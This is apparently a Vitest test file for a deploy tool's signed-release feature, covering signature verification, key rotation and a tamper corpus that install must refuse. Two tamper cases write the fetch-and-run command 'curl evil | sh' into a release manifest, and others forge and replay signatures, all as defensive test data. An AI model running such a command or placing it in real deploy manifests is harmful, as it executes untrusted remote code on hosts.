import { existsSync } from "node:fs";
import { readdir, readFile, readlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import {
  type ArtifactStore,
  createFsStore,
  type DeployEvent,
  generateSigningKey,
  type InstallOptions,
  install,
  isDeployKitError,
  promote,
  publish,
  readChannel,
  readSecretKey,
  type SecretKey,
  signMessage,
  storeKeys,
} from "@deploykit/core";
import { execa } from "execa";
import { afterEach, describe, expect, it, vi } from "vitest";
import { makePackage, tempDir } from "./support/package";

// Signed releases end to end on the filesystem store (the bucket's layout in a directory): the
// tamper corpus of issue 15 run through install(), key rotation, and the trust policy's defaults.
let work: Awaited<ReturnType<typeof tempDir>>;
afterEach(() => work?.cleanup());

interface Signer {
  key: SecretKey;
  publicKey: string;
  path: string;
}

async function signer(name: string): Promise<Signer> {
  const path = join(work.dir, `${name}.key`);
  const { publicKey } = await generateSigningKey({ secretKeyPath: path });
  return { key: await readSecretKey(path), publicKey, path };
}

const text = async (store: ArtifactStore, key: string) =>
  (await buffer(await store.get(key))).toString("utf8");

async function release(
  store: ArtifactStore,
  version: string,
  signKey?: SecretKey | string,
  channel?: string,
) {
  const pkg = await makePackage(
    work.dir,
    "web",
    version,
    { "server.js": `v${version}` },
    { web: "node server.js" },
  );
  return publish(pkg, { store, ...(signKey ? { signKey } : {}), ...(channel ? { channel } : {}) });
}

/** What must not change when an install is refused. */
async function hostSnapshot(root: string) {
  return {
    current: await readlink(join(root, "current")),
    state: await readFile(join(root, ".deploykit", "state.json"), "utf8"),
    releases: (await readdir(join(root, "releases"))).sort(),
    cache: (await readdir(join(root, ".deploykit", "cache"))).sort(),
  };
}

describe("signed releases", () => {
  it("publish --sign-key stores manifest.json.minisig that `minisign -Vm` verifies, and the key appears nowhere", async () => {
    work = await tempDir();
    const store = createFsStore({ dir: join(work.dir, "store") });
    const a = await signer("a");
    const events: DeployEvent[] = [];
    const pkg = await makePackage(work.dir, "web", "1.0.0", { "server.js": "v1" });
    await publish(pkg, { store, signKey: a.path, channel: "production", onEvent: (e) => events.push(e) });
    const dir = join(work.dir, "store", "apps", "web", "releases", "1.0.0");
    const verified = await execa("minisign", ["-Vm", join(dir, "manifest.json"), "-P", a.publicKey]);
    expect(verified.stdout).toMatch(
      /Trusted comment: timestamp:\d+\tfile:manifest.json\thashed\tapp:web\tversion:1\.0\.0/,
    );
    // The channel's signature covers the same manifest bytes and names the channel.
    const pointer = await readChannel(store, "web", "production");
    expect(pointer?.signature).toMatch(/\tapp:web\tchannel:production\tversion:1\.0\.0\n/);

    const secretLine = (await readFile(a.path, "utf8")).split("\n")[1] as string;
    const seed = Buffer.from(secretLine, "base64").subarray(62, 94);
    const everything = [
      JSON.stringify(events),
      ...(await Promise.all((await store.list("")).map((o) => text(store, o.key)))),
    ].join("\n");
    for (const secret of [secretLine.slice(80, 120), seed.toString("hex"), seed.toString("base64")])
      expect(everything).not.toContain(secret);
    expect(events.some((e) => e.type === "step:start" && e.step === "sign")).toBe(true);
  });

  it("the tamper corpus is 100% refused by install with E_SIGNATURE, leaving the host as it was", async () => {
    work = await tempDir();
    const store = createFsStore({ dir: join(work.dir, "store") });
    const root = join(work.dir, "host");
    const builder = await signer("builder");
    const attacker = await signer("attacker");
    const trust = { trustedKeys: [builder.publicKey] };
    await release(store, "0.9.0", builder.key, "production");
    await release(store, "1.0.0", builder.key, "production");
    await install({ store, app: "web", channel: "production", root, ...trust });
    const manifestOf = (v: string) => storeKeys.manifest("web", v);

    // Each case starts from a freshly published, signed 1.1.0 (a fresh store dir per case) and
    // tampers with the store the way someone with bucket write access would.
    type Case = {
      name: string;
      select: Pick<InstallOptions, "version" | "channel">;
      tamper(s: ArtifactStore): Promise<void>;
    };
    const cases: Case[] = [
      {
        name: "artifact swapped with a matching manifest edit",
        select: { version: "1.1.0" },
        async tamper(s) {
          const evil = await makePackage(work.dir, "evil", "1.1.0", { "server.js": "evil" });
          const manifest = JSON.parse(await text(s, manifestOf("1.1.0")));
          manifest.artifact.size = evil.manifest.artifact.size;
          manifest.artifact.sha256 = evil.manifest.artifact.sha256;
          await s.put(storeKeys.artifact("web", "1.1.0", "web-1.1.0.tgz"), await readFile(evil.path));
          await s.put(manifestOf("1.1.0"), `${JSON.stringify(manifest, null, 2)}\n`);
        },
      },
      {
        name: "manifest edited (process command)",
        select: { version: "1.1.0" },
        async tamper(s) {
          const edited = (await text(s, manifestOf("1.1.0"))).replace("node server.js", "curl evil | sh");
          await s.put(manifestOf("1.1.0"), edited);
        },
      },
      {
        name: "manifest edited and the channel pointer's sha256 updated to match",
        select: { channel: "production" },
        async tamper(s) {
          const edited = (await text(s, manifestOf("1.1.0"))).replace("node server.js", "curl evil | sh");
          await s.put(manifestOf("1.1.0"), edited);
          const pointer = JSON.parse(await text(s, storeKeys.channel("web", "production")));
          const { createHash } = await import("node:crypto");
          pointer.manifestSha256 = createHash("sha256").update(edited).digest("hex");
          await s.put(storeKeys.channel("web", "production"), JSON.stringify(pointer));
        },
      },
      {
        name: "signature file removed",
        select: { version: "1.1.0" },
        tamper: (s) => s.delete(storeKeys.signature("web", "1.1.0")),
      },
      {
        name: "signature from an untrusted key",
        select: { version: "1.1.0" },
        async tamper(s) {
          const bytes = await buffer(await s.get(manifestOf("1.1.0")));
          const forged = signMessage(bytes, attacker.key, { trustedComment: "app:web\tversion:1.1.0" });
          await s.put(storeKeys.signature("web", "1.1.0"), forged);
        },
      },
      {
        name: "channel pointer rewritten to another signed release (signature kept)",
        select: { channel: "production" },
        async tamper(s) {
          const pointer = JSON.parse(await text(s, storeKeys.channel("web", "production")));
          const old = await buffer(await s.get(manifestOf("0.9.0")));
          const { createHash } = await import("node:crypto");
          Object.assign(pointer, {
            version: "0.9.0",
            manifestSha256: createHash("sha256").update(old).digest("hex"),
          });
          await s.put(storeKeys.channel("web", "production"), JSON.stringify(pointer));
        },
      },
      {
        name: "channel pointer rewritten to another signed release (signature dropped)",
        select: { channel: "production" },
        async tamper(s) {
          const old = await buffer(await s.get(manifestOf("0.9.0")));
          const { createHash } = await import("node:crypto");
          const pointer = {
            version: "0.9.0",
            manifestSha256: createHash("sha256").update(old).digest("hex"),
            promotedAt: new Date().toISOString(),
          };
          await s.put(storeKeys.channel("web", "production"), JSON.stringify(pointer));
        },
      },
      {
        name: "replayed old signed manifest under a new version name",
        select: { version: "2.0.0" },
        async tamper(s) {
          for (const [from, to] of [
            [manifestOf("1.0.0"), manifestOf("2.0.0")],
            [storeKeys.signature("web", "1.0.0"), storeKeys.signature("web", "2.0.0")],
            [
              storeKeys.artifact("web", "1.0.0", "web-1.0.0.tgz"),
              storeKeys.artifact("web", "2.0.0", "web-1.0.0.tgz"),
            ],
          ] as const)
            await s.put(to, await buffer(await s.get(from)));
        },
      },
    ];

    const outcomes: string[] = [];
    for (const [i, c] of cases.entries()) {
      const caseStore = createFsStore({ dir: join(work.dir, `store-${i}`) });
      for (const v of ["0.9.0", "1.0.0", "1.1.0"]) await release(caseStore, v, builder.key, "production");
      await c.tamper(caseStore);
      const before = await hostSnapshot(root);
      const outcome = await install({ store: caseStore, app: "web", root, ...c.select, ...trust }).then(
        () => "installed",
        (e) => (isDeployKitError(e) ? e.code : String(e)),
      );
      outcomes.push(`${c.name}: ${outcome}`);
      expect(await hostSnapshot(root), c.name).toEqual(before);
    }
    // Every case is refused on the signature, before anything is fetched (the cache is unchanged too).
    expect(outcomes).toEqual(cases.map((c) => `${c.name}: E_SIGNATURE`));
    // The untampered store still installs with the same trust.
    await release(store, "1.1.0", builder.key, "production");
    expect(
      (await install({ store, app: "web", channel: "production", root, ...trust })).release.version,
    ).toBe("1.1.0");
  }, 120_000);

  it("a replayed older signed channel pointer is refused (E_SIGNATURE, host untouched); moving the channel back signs it anew", async () => {
    work = await tempDir();
    const store = createFsStore({ dir: join(work.dir, "store") });
    const root = join(work.dir, "host");
    const builder = await signer("builder");
    const trust = { trustedKeys: [builder.publicKey] };
    const pointerKey = storeKeys.channel("web", "production");
    const at = (iso: string) => vi.useFakeTimers({ toFake: ["Date"], now: new Date(iso) });
    try {
      at("2026-11-01T10:00:00Z");
      await release(store, "1.0.0", builder.key, "production");
      const oldPointer = await text(store, pointerKey);
      at("2026-11-02T10:00:00Z");
      await release(store, "2.0.0", builder.key, "production");
      const newPointer = await text(store, pointerKey);
      vi.useRealTimers();
      expect(
        (await install({ store, app: "web", channel: "production", root, ...trust })).release.version,
      ).toBe("2.0.0");
      // Someone with write access to the bucket puts the old, genuinely signed pointer back.
      await store.put(pointerKey, oldPointer);
      const before = await hostSnapshot(root);
      const replayed = await install({ store, app: "web", channel: "production", root, ...trust }).catch(
        (e: unknown) => e,
      );
      expect(replayed).toMatchObject({ code: "E_SIGNATURE", message: expect.stringContaining("replayed") });
      expect(await hostSnapshot(root)).toEqual(before);
      // The bucket repaired, an operator moving the channel back to 1.0.0 signs it now: accepted.
      await store.put(pointerKey, newPointer);
      at("2026-11-03T10:00:00Z");
      await promote({ store, app: "web", channel: "production", version: "1.0.0", signKey: builder.key });
      vi.useRealTimers();
      expect(
        (await install({ store, app: "web", channel: "production", root, ...trust })).release.version,
      ).toBe("1.0.0");
    } finally {
      vi.useRealTimers();
    }
  });

  it("rotation: with two trusted keys releases signed by either install; after removing the old key its releases are refused", async () => {
    work = await tempDir();
    const store = createFsStore({ dir: join(work.dir, "store") });
    const root = join(work.dir, "host");
    const [oldKey, newKey] = [await signer("old"), await signer("new")];
    await release(store, "1.0.0", oldKey.key);
    await release(store, "1.1.0", newKey.key);
    const both = { trustedKeys: [oldKey.publicKey, newKey.publicKey] };
    await install({ store, app: "web", version: "1.0.0", root, ...both });
    await install({ store, app: "web", version: "1.1.0", root, ...both });
    const onlyNew = { trustedKeys: [newKey.publicKey] };
    const before = await hostSnapshot(root);
    await expect(install({ store, app: "web", version: "1.0.0", root, ...onlyNew })).rejects.toSatisfy((e) =>
      isDeployKitError(e, "E_SIGNATURE"),
    );
    expect(await hostSnapshot(root)).toEqual(before);
    // A public key file's whole text is accepted as well as its base64 line.
    const pubFile = `untrusted comment: minisign public key\n${newKey.publicKey}\n`;
    expect(
      (await install({ store, app: "web", version: "1.1.0", root, trustedKeys: [pubFile] })).unchanged,
    ).toBe(true);
  });

  it("trust policy: requireSignature defaults on with a key; off, unsigned installs but a bad signature never does; no keys with requireSignature is bad input", async () => {
    work = await tempDir();
    const store = createFsStore({ dir: join(work.dir, "store") });
    const root = join(work.dir, "host");
    const [a, b] = [await signer("a"), await signer("b")];
    await release(store, "1.0.0");
    await release(store, "1.1.0", b.key);
    const code = (options: Partial<InstallOptions>) =>
      install({ store, app: "web", root, ...options } as InstallOptions).then(
        (r) => r.release.version,
        (e) => (isDeployKitError(e) ? e.code : String(e)),
      );
    expect(await code({ version: "1.0.0", requireSignature: true })).toBe("E_INVALID_INPUT");
    expect(existsSync(root)).toBe(false);
    expect(await code({ version: "1.0.0", trustedKeys: ["RWQnot-a-key"] })).toBe("E_INVALID_INPUT");
    expect(await code({ version: "1.0.0", trustedKeys: [a.publicKey] })).toBe("E_SIGNATURE");
    expect(await code({ version: "1.1.0", trustedKeys: [a.publicKey], requireSignature: false })).toBe(
      "E_SIGNATURE",
    );
    expect(await code({ version: "1.0.0", trustedKeys: [a.publicKey], requireSignature: false })).toBe(
      "1.0.0",
    );
    expect(await code({ version: "1.1.0" })).toBe("1.1.0");
  });

  it("re-publishing with --sign-key signs an unsigned release, keeps its own signature, and replaces another key's (rotation)", async () => {
    work = await tempDir();
    const store = createFsStore({ dir: join(work.dir, "store") });
    const root = join(work.dir, "host");
    const [a, b] = [await signer("a"), await signer("b")];
    const pkg = await makePackage(work.dir, "web", "1.0.0", { "server.js": "v1" });
    await publish(pkg, { store });
    expect(await store.head(storeKeys.signature("web", "1.0.0"))).toBeUndefined();
    const first = await publish(pkg, { store, signKey: a.key });
    expect(first).toMatchObject({ unchanged: true, signature: { keyId: a.key.keyId } });
    expect(first.signature?.replaced).toBeUndefined();
    const signedByA = await text(store, storeKeys.signature("web", "1.0.0"));
    const again = await publish(pkg, { store, signKey: a.key });
    expect(again.signature).toEqual({ keyId: a.key.keyId });
    expect(await text(store, storeKeys.signature("web", "1.0.0"))).toBe(signedByA);

    const rotated = await publish(pkg, { store, signKey: b.key, channel: "production" });
    expect(rotated.signature).toEqual({ keyId: b.key.keyId, replaced: { keyId: a.key.keyId } });
    expect(await text(store, storeKeys.signature("web", "1.0.0"))).not.toBe(signedByA);
    const onlyNew = { store, app: "web", root, trustedKeys: [b.publicKey] };
    expect((await install({ ...onlyNew, version: "1.0.0" })).release.version).toBe("1.0.0");
    expect((await install({ ...onlyNew, channel: "production" })).unchanged).toBe(true);
    await expect(
      install({ store, app: "web", version: "1.0.0", root, trustedKeys: [a.publicKey] }),
    ).rejects.toSatisfy(
      (e) => isDeployKitError(e, "E_SIGNATURE") && /add its public key to trustedKeys/.test(e.hint ?? ""),
    );
  });

  it("a re-publish never signs a stored manifest other than its own, even to replace another key's signature", async () => {
    work = await tempDir();
    const store = createFsStore({ dir: join(work.dir, "store") });
    const [a, b] = [await signer("a"), await signer("b")];
    const pkg = await makePackage(work.dir, "web", "1.0.0", { "server.js": "v1" });
    await publish(pkg, { store, signKey: a.key });
    const manifestKey = storeKeys.manifest("web", "1.0.0");
    // The same manifest, other bytes (compact JSON): what someone with bucket access could write.
    const edited = JSON.stringify(JSON.parse(await text(store, manifestKey)));
    await writeFile(join(work.dir, "store", manifestKey), edited);
    const signedByA = await text(store, storeKeys.signature("web", "1.0.0"));
    await expect(publish(pkg, { store, signKey: b.key })).rejects.toSatisfy((e) =>
      isDeployKitError(e, "E_VERSION_EXISTS"),
    );
    expect(await text(store, storeKeys.signature("web", "1.0.0"))).toBe(signedByA);
  });
});
